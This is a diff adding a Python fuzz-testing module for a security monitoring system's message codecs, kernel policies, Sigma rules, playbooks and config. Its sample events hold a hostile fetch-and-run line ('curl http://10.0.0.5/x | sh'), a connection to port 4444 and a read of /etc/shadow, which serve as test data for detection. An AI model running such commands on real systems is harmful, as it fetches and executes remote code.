@@ -1,0 +1,396 @@
+"""Fuzz targets: one function of bytes per input boundary, fed the way the
+running hive or agent feeds it, each checking the boundary's contract:
+
+* only the boundary's own error may escape (anything else is an actor that
+  dies on hostile input, or a CLI that prints a traceback);
+* what the boundary accepts, the next stage takes: a frame the router
+  decodes is stored without SQLite refusing a value, a message survives
+  encoding again, a policy that loads compiles into the kernel's maps, a
+  rule or playbook that loads runs over events and alerts without error;
+* each call returns within the target's time bound.
+
+``TARGETS`` names them; ``run(name, data)`` calls one and raises
+:class:`ContractBroken` (or the escaped error itself) when the contract does
+not hold.  ``OPEN_BUGS`` lists what the targets found that is not fixed yet.
+
+The project's modules are imported by the targets when first called, not
+here: atheris instruments (for coverage) only what is imported after it
+starts, and only what a target ``covers`` (instrumenting costs seconds).
+"""
+
+from __future__ import annotations
+
+import atexit
+import functools
+import importlib
+import itertools
+import os
+import shutil
+import tempfile
+import time
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+
+class ContractBroken(AssertionError):
+    """A target's input made its boundary break its contract."""
+
+
+@dataclass(frozen=True)
+class Target:
+    fn: Callable[[bytes], None]
+    allowed: tuple[str, ...]
+    """The boundary's own errors, as ``module.Name``: these may escape."""
+    bound: float
+    """Seconds one call may take."""
+    covers: tuple[str, ...]
+    """The modules whose code it reaches: atheris instruments these."""
+    max_len: int = 4096
+    """Longest input a fuzzer tries (a file wants more room than a frame)."""
+
+    @functools.cached_property
+    def errors(self) -> tuple[type[BaseException], ...]:
+        return tuple(getattr(importlib.import_module(m), n) for m, _, n in (a.rpartition(".") for a in self.allowed))
+
+
+# -- scratch files and a hive store -----------------------------------------------
+
+
+def _scratch() -> Path:
+    """Where targets write their files and store: the runner's folder, else one of our own."""
+    given = os.environ.get("IMMUNE_FUZZ_SCRATCH")
+    if given:
+        return Path(given)
+    made = Path(tempfile.mkdtemp(prefix="immune-fuzz-", dir="/dev/shm" if Path("/dev/shm").is_dir() else None))
+    atexit.register(shutil.rmtree, made, True)
+    return made
+
+
+SCRATCH = _scratch()
+AGENT = "fuzz-agent"
+AGENT_KEY = "rq:rM>}U?@Lns47E1%kR.o@n%FcmmsL/@{H8]yf7"
+TOKEN = "fuzz-token"
+"""An enrollment frame with this token is redeemed with a live one."""
+_calls = itertools.count()
+_store: Any = None
+
+
+def _hive_store() -> Any:
+    """A store with one enrolled agent, made anew every few thousand calls
+    so that a long run does not fill the disk."""
+    from hive import Store
+
+    global _store
+    if _store is None or next(_calls) % 5000 == 0:
+        if _store is not None:
+            _store.close()
+        for f in SCRATCH.glob("hive.db*"):
+            f.unlink()
+        _store = Store(SCRATCH / "hive.db")
+        _store.enroll(AGENT, AGENT_KEY)
+    return _store
+
+
+def _file(data: bytes, name: str) -> Path:
+    path = SCRATCH / name
+    path.write_bytes(data)
+    return path
+
+
+def _decoded(codec: Any, data: bytes) -> Any:
+    """``data`` decoded, or None when the codec refuses it (a DecodeError,
+    its only error); what decodes must encode again to what decodes the same
+    (bytes compared: NaN is not equal to itself)."""
+    from actors import DecodeError
+
+    try:
+        msg = codec.decode(data)
+    except DecodeError:
+        return None
+    again = codec.encode(msg)
+    if codec.encode(codec.decode(again)) != again:
+        raise ContractBroken(f"{type(msg).__name__} changes when encoded and decoded again")
+    return msg
+
+
+# -- the codecs as the hive and the agent build them -------------------------------
+
+
+@functools.cache
+def agent_codec() -> Any:
+    """As the router decodes what agents send (hive/_actors.py router_actor),
+    at the default ``hive.max_frame``."""
+    import wire
+    from actors import Codec
+    from node import Config
+
+    return Codec(wire.AgentMessage, max_size=Config().hive.max_frame)
+
+
+@functools.cache
+def hive_codec() -> Any:
+    """As the agent's relay decodes what the hive sends."""
+    import wire
+    from actors import Codec
+
+    return Codec(wire.HiveMessage)
+
+
+@functools.cache
+def enroll_codec() -> Any:
+    """As the enrollment door decodes (hive/_actors.py enroll_actor)."""
+    import wire
+    from actors import Codec
+
+    return Codec(wire.Enroll, max_size=4096)
+
+
+# -- agent -> hive ----------------------------------------------------------------
+
+
+def agent_message(data: bytes) -> None:
+    """A frame from an enrolled agent, as the router decodes it, then stored
+    as the store and registry store it: a value the wire contract accepts
+    must never be one SQLite refuses."""
+    import wire
+    from hive import AgentSeen, Ingest
+
+    msg = _decoded(agent_codec(), data)
+    if msg is None:
+        return
+    store = _hive_store()
+    if isinstance(msg, wire.EventBatch):
+        # A stream of its own, so that the batch is new and really written.
+        done = store.ingest([Ingest(agent=AGENT, stream=f"{msg.stream}#{next(_calls)}", seq=msg.seq,
+                                    events=msg.events)])
+        if done.refused:
+            raise ContractBroken(f"a batch the wire accepts was refused by the store: {done.refused[0][1]}")
+    elif isinstance(msg, (wire.Hello, wire.Heartbeat)):
+        store.agents_seen([AgentSeen(
+            agent=AGENT, time=time.time_ns(), hello=msg if isinstance(msg, wire.Hello) else None,
+            heartbeat=msg if isinstance(msg, wire.Heartbeat) else None, address="127.0.0.1")])
+
+
+def hive_message(data: bytes) -> None:
+    """A frame from the hive (or whoever took its place), as the agent decodes it."""
+    _decoded(hive_codec(), data)
+
+
+def enroll(data: bytes) -> None:
+    """An enrollment frame from anyone with a CURVE key, decoded and redeemed
+    as the enrollment door does: a refusal is a StoreError, nothing else."""
+    req = _decoded(enroll_codec(), data)
+    if req is None:
+        return
+    store = _hive_store()
+    token = store.new_token() if req.token == TOKEN else req.token
+    store.redeem_token(token, req.agent, AGENT_KEY if req.agent == AGENT else _key_of(req.agent))
+
+
+def _key_of(agent: str) -> str:
+    """A key of its own for each name (a key enrolled under another name is refused)."""
+    import hashlib
+
+    from zmq.utils import z85
+
+    return z85.encode(hashlib.sha256(agent.encode("utf-8", "surrogatepass")).digest()).decode()
+
+
+# -- sensor policy files ----------------------------------------------------------
+
+_PATHS = ["/etc/shadow", "/tmp/x.sh", "/usr/bin/bash", "/", "/home/a/b/c/d/e/f", "/tmp/\u00e9\U0001f600"]
+
+
+def policy(data: bytes) -> None:
+    """A policy file as the agent loads it, then compiled into what the
+    kernel side needs and matched as the decoder matches."""
+    from kmod import Policy
+
+    p = Policy.load(_file(data, "policy.toml"))
+    p.open_prefixes()
+    p.open_dirs()
+    p.open_heads()
+    p.sock_entries(generation=7)
+    for path in _PATHS:
+        p.match_open(path)
+        p.match_exec(path, lambda: "0" * 64)
+        p.match_exec(path, lambda: None)
+    p.match_setid("setuid", 0)
+    p.match_fork()
+
+
+# -- Sigma rules ------------------------------------------------------------------
+
+
+@functools.cache
+def events() -> tuple[Any, ...]:
+    """One event of each kind an agent sends, with text worth matching."""
+    import wire
+
+    common = dict(agent=AGENT, pid=4242, ppid=1, uid=1000, comm="bash", image="/usr/bin/bash",
+                  cmdline="bash -c curl http://10.0.0.5/x | sh", parent_image="/usr/sbin/sshd",
+                  user="alice", cwd="/tmp", time=1_700_000_000_000_000_000)
+    return (
+        wire.Exec(filename="/tmp/\u00e9vil", argv=["bash", "-c", "curl http://10.0.0.5/x | sh", "a" * 300],
+                  **common),
+        wire.Open(path="/etc/shadow", flags=0, **common),
+        wire.Connect(family=2, address="10.0.0.5", port=4444, **common),
+        wire.SetId(call="setuid", old=1000, new=0, **common),
+        wire.Fork(child_pid=4243, **common),
+        wire.Exit(code=1, **common),
+    )
+
+
+def sigma(data: bytes) -> None:
+    """A rule file as the sentinel loads it (a rule that cannot load is
+    reported, never raised), then every event through the rules."""
+    from hive.sigma import RuleEngine
+
+    engine = RuleEngine(clock=time.monotonic)
+    if engine.load(_file(data, "rule.yml")).loaded:
+        for event in events():
+            engine.process(event)
+        engine.tick()
+
+
+# -- playbooks and their templates -----------------------------------------------
+
+
+@functools.cache
+def alert() -> Any:
+    """An alert that the shipped reverse-shell playbook acts on."""
+    import wire
+
+    return wire.Alert(id="alert-1", rule_id="139f073e-48c0-48af-af1c-71581a80d7da", title="fuzz",
+                      level="critical", tags=["attack.t1059.004", "attack.execution"], agent=AGENT,
+                      time=1_700_000_000_000_000_000, events=list(events()), incident="inc-1", detail="d")
+
+
+def playbook(data: bytes) -> None:
+    """A playbook file as the hive loads it; one that loads decides about an
+    alert (conditions, templates, parameters) without raising."""
+    from hive.playbook import PlaybookEngine, load_playbook
+
+    pb = load_playbook(_file(data, "playbook.yml"))
+    engine = PlaybookEngine([pb], clock=lambda: 1_700_000_000.0, variables={"webhook": "https://soc.example/h"},
+                            protected=["127.0.0.1"])
+    engine.on_alert(alert())
+
+
+def template(data: bytes) -> None:
+    """A template (before the first NUL) rendered against an alert whose
+    event carries attacker text (after it), as a playbook step renders its
+    parameters: a TemplateError or a value within ``MAX_RENDERED``."""
+    import msgspec
+
+    import wire
+    from hive.playbook import Template, plain
+    from hive.playbook._template import MAX_RENDERED
+
+    text, _, value = data.partition(b"\0")
+    compiled = Template(text.decode("utf-8", "replace"))
+    said = value.decode("utf-8", "replace")
+    event = wire.Exec(agent=AGENT, pid=4242, filename=said[:wire.MAX_PATH], cmdline=said[:wire.MAX_CMDLINE],
+                      argv=[a[:wire.MAX_ARG] for a in said.split()[:wire.MAX_ARGV]])
+    a = plain(msgspec.structs.replace(alert(), events=[event]))
+    out = compiled.render({"alert": a, "event": a["events"][0], "vars": {"webhook": "https://soc.example/h"},
+                           "playbook": {"id": "fuzz", "title": "fuzz"}})
+    if isinstance(out, str) and len(out) > MAX_RENDERED:
+        raise ContractBroken(f"rendered {len(out)} characters, more than MAX_RENDERED")
+
+
+# -- the node's configuration file ----------------------------------------------
+
+
+def config(data: bytes) -> None:
+    """A configuration file as ``immune-node`` reads it: a ConfigError (one
+    line) or a configuration whose values are all in their ranges."""
+    from node import load_config
+
+    cfg = load_config(_file(data, "immune.toml"))
+    if not cfg.hive.enroll_listen:
+        raise ContractBroken("hive.enroll_listen was not derived from hive.listen")
+
+
+_WIRE = ("wire", "actors._codec")
+_YAML = ("hive._datafile", "hive._regex", "yaml")
+TARGETS: dict[str, Target] = {
+    "agent_message": Target(agent_message, (), 1.0, (*_WIRE, "hive._store", "hive._messages")),
+    "hive_message": Target(hive_message, (), 1.0, _WIRE),
+    "enroll": Target(enroll, ("hive.StoreError",), 1.0, (*_WIRE, "hive._store")),
+    "policy": Target(policy, ("kmod.PolicyError",), 2.0, ("kmod._policy", "tomllib", "ipaddress"), max_len=16384),
+    "sigma": Target(sigma, ("hive.sigma.RuleError",), 5.0, ("hive.sigma", "hive.correlate", "sigma", *_YAML),
+                    max_len=16384),
+    "playbook": Target(playbook, ("hive.playbook.PlaybookError",), 2.0, ("hive.playbook", "ipaddress", *_YAML),
+                       max_len=16384),
+    "template": Target(template, ("hive.playbook.TemplateError",), 1.0, ("hive.playbook._template", "hive._regex"),
+                       max_len=2048),
+    "config": Target(config, ("node.ConfigError",), 1.0, ("node._config", "tomllib"), max_len=8192),
+}
+
+
+@dataclass(frozen=True)
+class OpenBug:
+    """A contract break a target found that is not fixed yet: its reproducer
+    in ``regressions/<target>/<name>``, what escapes, whose file to fix."""
+
+    target: str
+    name: str
+    error: str
+    """The escaping exception's type name and a part of its message, as ``Type: text``."""
+    owner: str
+
+
+_TEMPLATE = "hive/playbook/_template.py (helper rules)"
+OPEN_BUGS: tuple[OpenBug, ...] = (
+    # A filter's literal argument that literal_eval builds and then cannot
+    # hash escapes Template(): `immune-node playbooks check` prints a
+    # traceback, and the playbook actor dies loading the file.
+    OpenBug("template", "unhashable-literal", "TypeError: unhashable type", _TEMPLATE),
+    OpenBug("playbook", "unhashable-literal.yml", "TypeError: unhashable type", _TEMPLATE),
+    # `int` of an infinite float (a literal such as 1e400) raises
+    # OverflowError, which the engine's `except TemplateError` lets through:
+    # every alert the playbook answers kills the playbook actor.
+    OpenBug("template", "int-of-infinity", "OverflowError: cannot convert float infinity", _TEMPLATE),
+    OpenBug("playbook", "int-of-infinity.yml", "OverflowError: cannot convert float infinity", _TEMPLATE),
+)
+
+
+CORPUS = Path(__file__).resolve().parent / "corpus"
+
+
+def prepare(name: str) -> None:
+    """Import what target ``name`` uses and build what it builds once, by
+    running it over its seeds (so that no input is charged for it)."""
+    target = TARGETS[name]
+    target.errors
+    for seed in [b"", *(f.read_bytes() for f in sorted((CORPUS / name).iterdir()))]:
+        try:
+            target.fn(seed)
+        except Exception:  # noqa: BLE001  (the seeds are checked by test_fuzz.py)
+            pass
+
+
+def run(name: str, data: bytes, tolerate_open_bugs: bool = False) -> None:
+    """Call target ``name`` on ``data`` and check its contract.  With
+    ``tolerate_open_bugs``, an error that matches an open bug of this target
+    passes, so that a long run goes on to find new ones."""
+    target = TARGETS[name]
+    start = time.monotonic()
+    try:
+        target.fn(data)
+    except Exception as e:
+        own = isinstance(e, target.errors) and not isinstance(e, ContractBroken)
+        if not own and not (tolerate_open_bugs and any(b.target == name and _matches(b.error, e)
+                                                       for b in OPEN_BUGS)):
+            raise
+    took = time.monotonic() - start
+    if took > target.bound:
+        raise ContractBroken(f"{name}: one call took {took:.2f}s, more than its bound of {target.bound}s")
+
+
+def _matches(error: str, e: BaseException) -> bool:
+    kind, _, text = error.partition(": ")
+    return type(e).__name__ == kind and text in str(e)
